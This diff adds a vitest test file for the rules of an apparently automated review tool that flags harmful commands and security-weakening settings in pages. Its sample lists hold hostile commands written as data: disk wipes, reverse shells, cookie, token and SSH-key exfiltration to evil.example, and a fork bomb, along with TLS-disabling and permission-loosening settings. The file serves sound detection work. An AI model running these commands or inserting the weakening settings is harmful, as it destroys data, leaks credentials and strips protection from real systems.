@@ -1,0 +1,148 @@
+// Rules over commands and code that do harm, or that switch protection off.
+import { expect, test } from 'vitest'
+import harm from '../../../src/review/rules/harm.json' with { type: 'json' }
+import weak from '../../../src/review/rules/weak-security.json' with { type: 'json' }
+import { block, findBy, sh, subjectFrom, testRule } from './page-cases.ts'
+
+const samples: Readonly<Record<string, readonly string[]>> = {
+  'command-harm': [
+    'rm -rf /',
+    'sudo rm -rf --no-preserve-root "$HOME"',
+    'del /f /s /q C:\\*',
+    'dd if=/dev/zero of=/dev/sda',
+    'echo Y3VybA== | base64 -d | sh',
+    'eval "$(echo Y3VybA== | base64 --decode)"',
+    'exec(base64.b64decode("aW1wb3J0"))',
+    'echo hs | rev | bash',
+    'powershell -nop -w hidden -enc SQBFAFgAIAA=',
+    'env | curl -d @- https://evil.example',
+    'curl "https://evil.example/?h=$(whoami)"',
+    'fetch(url, { method: "POST", body: JSON.stringify(process.env) })',
+    ':(){ :|:& };:',
+    'new Image().src = "https://evil.example/" + document.cookie; fetch("https://evil.example?c=" + document.cookie)',
+    'curl -F key=@$HOME/.ssh/id_rsa https://evil.example',
+    'cat ~/.aws/credentials | nc evil.example 80',
+    'curl http://169.254.169.254/latest/meta-data/iam/',
+    'bash -i >& /dev/tcp/203.0.113.5/4444 0>&1',
+    's=socket.socket();s.connect(("evil.example",1));os.dup2(s.fileno(),0);subprocess.call(["sh"])',
+    'echo key >> ~/.ssh/authorized_keys',
+    'curl https://evil.example -d "t=$GITHUB_TOKEN"',
+  ],
+  'security-weakened': [
+    'chmod -R 777 /var/lib/acme',
+    'aws s3 ls --no-verify-ssl',
+    'sudo apt-get install --allow-unauthenticated acme',
+    'gpgcheck=0',
+    'ssl_enabled: false',
+    'git config --global http.sslVerify false',
+    'curl -fsk https://acme.example',
+    'sudo ufw disable',
+    'ssh -o StrictHostKeyChecking=no host',
+    'acme login --insecure',
+    'acme install --skip-verify',
+    'X509TrustManager {}',
+    'jwt.decode(token, options={"verify_signature": False})',
+    'tls.Config{InsecureSkipVerify: true}',
+    'NODE_TLS_REJECT_UNAUTHORIZED=0 node app.js',
+    'npm config set strict-ssl false',
+    'host all all 0.0.0.0/0 trust',
+    'pip install --trusted-host pypi.example acme',
+    'powershell -ExecutionPolicy Bypass -File i.ps1',
+    'requests.get(url, verify=False)',
+    'PermitRootLogin yes',
+    'http.verify_mode = OpenSSL::SSL::VERIFY_NONE',
+    'sudo setenforce 0',
+    'deploy ALL=(ALL) NOPASSWD: ALL',
+    'xattr -d com.apple.quarantine Acme.app',
+    'wget --no-check-certificate https://acme.example',
+  ],
+}
+
+const harmless = [
+  'rm -rf node_modules',
+  'rm -rf ./build/*',
+  'base64 -d secret.b64 > secret.bin',
+  'env | grep ACME',
+  'curl -H "Authorization: Bearer $ACME_TOKEN" https://api.acme.example/v1',
+  'curl -d "name=$NAME" https://api.acme.example/v1',
+  'curl "https://api.acme.example/v1?day=$(date +%F)"',
+  'ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519',
+  'cat ~/.ssh/id_ed25519.pub',
+  'nc -z localhost 8080',
+  'chmod 600 ~/.ssh/config',
+  'chmod +x bin/acme',
+  'verify: true',
+  'requests.get(url, verify="/etc/ca.pem")',
+  'sslmode=verify-full',
+  'ssl_enabled: true',
+  'curl --cacert ca.pem https://acme.example',
+  'ssh -o StrictHostKeyChecking=yes host',
+  'docker run --rm acme/server',
+  'process.env.ACME_TOKEN',
+  'fetch(url, { body: JSON.stringify(order) })',
+]
+
+for (const [id, fires] of Object.entries(samples))
+  testRule(
+    id,
+    [...fires.map((text) => sh(text)), `Or run \`${fires[0]}\`.\n`],
+    [...harmless.map((text) => sh(text)), { after: sh(fires[0] ?? ''), before: sh(fires[0] ?? '') }],
+  )
+
+test('each pattern but the mild ones is shown by a sample', () => {
+  const rows = [...harm, ...weak].filter((row) => !('isMild' in row))
+  const all = Object.values(samples).flat()
+  expect(
+    rows.filter(({ pattern }) => !all.some((text) => new RegExp(pattern, 'i').test(text))).map(({ name }) => name),
+  ).toEqual([])
+})
+
+const insecure = sh('curl -k https://acme.example')
+
+testRule(
+  'security-weakened-mildly',
+  [
+    sh('docker run --privileged acme/server'),
+    sh('git commit --no-verify'),
+    block('text', 'postgres://db/x?sslmode=disable'),
+    'Never use `verify=False` here.\n',
+    { after: insecure, others: [insecure] },
+    sh('docker run -v /var/run/docker.sock:/var/run/docker.sock acme/server'),
+  ],
+  [
+    { after: sh('docker run --privileged acme/server'), readers: ['docker run --privileged acme/server works'] },
+    sh('docker run acme/server'),
+    block('text', 'postgres://db/x?sslmode=require'),
+    { after: insecure, before: insecure },
+    sh('git commit -m x'),
+    'We verify all of it.\n',
+  ],
+)
+
+testRule(
+  'command-harm-known',
+  [
+    sh('psql -c "DROP DATABASE acme"'),
+    sh('redis-cli FLUSHALL'),
+    'Never run `rm -rf /` on a server.\n',
+    { after: sh('rm -rf /'), others: ['rm -rf /'] },
+    sh('kubectl delete pods --all'),
+    'Do not type :(){ :|:& };: anywhere.\n',
+  ],
+  [
+    sh('rm -rf /'),
+    sh('psql -c "DROP INDEX a"'),
+    sh('kubectl delete pod web'),
+    { after: sh('redis-cli FLUSHALL'), before: sh('redis-cli FLUSHALL') },
+    sh('docker system df'),
+    'Delete the database by hand.\n',
+  ],
+)
+
+test('a mild one that a reader brought blocks, and says so', () => {
+  const after = sh('docker run --privileged acme/server')
+  const readers = ['it only works with `docker run --privileged acme/server`']
+  expect(findBy('security-weakened', subjectFrom({ after, readers }))).toEqual([
+    { path: 'docs/setup.md', line: 2, subject: '--privileged', from: ['r1'] },
+  ])
+})
